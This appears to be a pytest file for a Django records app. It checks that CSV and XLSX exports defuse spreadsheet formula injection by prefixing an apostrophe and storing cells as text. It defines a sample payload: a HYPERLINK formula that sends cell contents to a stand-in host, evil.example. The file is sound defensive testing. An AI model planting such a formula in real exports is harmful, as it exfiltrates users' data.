"""Every table a user downloads goes through one writer (documents/exports.py): no cell a
user typed runs as a formula in the spreadsheet that opens it, in CSV or in XLSX."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from directives import selectors, services
from directives.models import Distribution
from documents.exports import neutralise
from memos import services as memo_services
from memos.models import Memo
from memos.reference import reference_memo_input
from tests.directives.test_directives import report_input, sent_directive
from workflow import services as workflow_services
from workflow.models import TaskLink

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"เปิดรายงาน")'


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        (EVIL, "'" + EVIL),
        ("+66 2 224 1234", "'+66 2 224 1234"),
        ("-ลบ", "'-ลบ"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("โครงการอบรม = ผ่าน", "โครงการอบรม = ผ่าน"),
        (-5, -5),
        (Decimal("12000.50"), Decimal("12000.50")),
    ],
)
def test_neutralise(typed, cell):
    assert neutralise(typed) == cell


@pytest.fixture
def dashboard_url(client, roles):
    from tests.directives.conftest import approve_reference_memo

    memo = approve_reference_memo(client, roles)
    directive = sent_directive(memo, roles)
    district = Distribution.objects.get(directive=directive, unit__key="district-01")
    services.distribution_receive(user=roles.district_clerk, distribution=district)
    services.distribution_acknowledge(user=roles.district_clerk, distribution=district)
    services.report_submit(user=roles.district_clerk, distribution=district, data=report_input(project_name=EVIL))
    client.force_login(roles.clerk)
    return reverse("memos:directive_dashboard", args=[directive.pk])


def test_follow_up_csv_defuses_a_formula_typed_by_a_receiving_clerk(client, dashboard_url):
    response = client.get(dashboard_url + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r[1] == "สำนักงานเขตพระนคร")
    assert row[10] == "'" + EVIL
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
    assert row[11:15] == ["1", "40", "5", "12000.50"]  # numbers stay numbers
    assert "filename*=utf-8''" in response["Content-Disposition"]


def test_follow_up_xlsx_holds_the_text_not_a_formula(client, dashboard_url):
    response = client.get(dashboard_url + "?format=xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[1]] == selectors.CSV_HEADINGS
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "สำนักงานเขตพระนคร")
    assert row[10].value == EVIL and row[10].data_type == "s"  # shown as typed, never run
    assert [c.value for c in row[11:15]] == [1, 40, 5, 12000.5] and row[12].data_type == "n"
    formulas = [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_register_exports_defuse_a_formula_subject(client, roles):
    data = reference_memo_input()
    data.subject = EVIL
    memo = memo_services.memo_create(user=roles.clerk, data=data)
    workflow_services.memo_submit(memo=memo, user=roles.clerk)
    client.force_login(roles.director)
    client.post(TaskLink.objects.get(memo=memo, is_open=True).task.reverse("execute"), {"action": "sign"})
    client.force_login(roles.clerk)
    year = Memo.objects.get(pk=memo.pk).register_entries.get(series="send").year
    url = reverse("memos:register", args=["send", year])
    text = client.get(url + "?format=csv").content.decode("utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in text
    sheet = load_workbook(io.BytesIO(client.get(url + "?format=xlsx").content)).active
    cells = [c for r in sheet.iter_rows() for c in r if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]
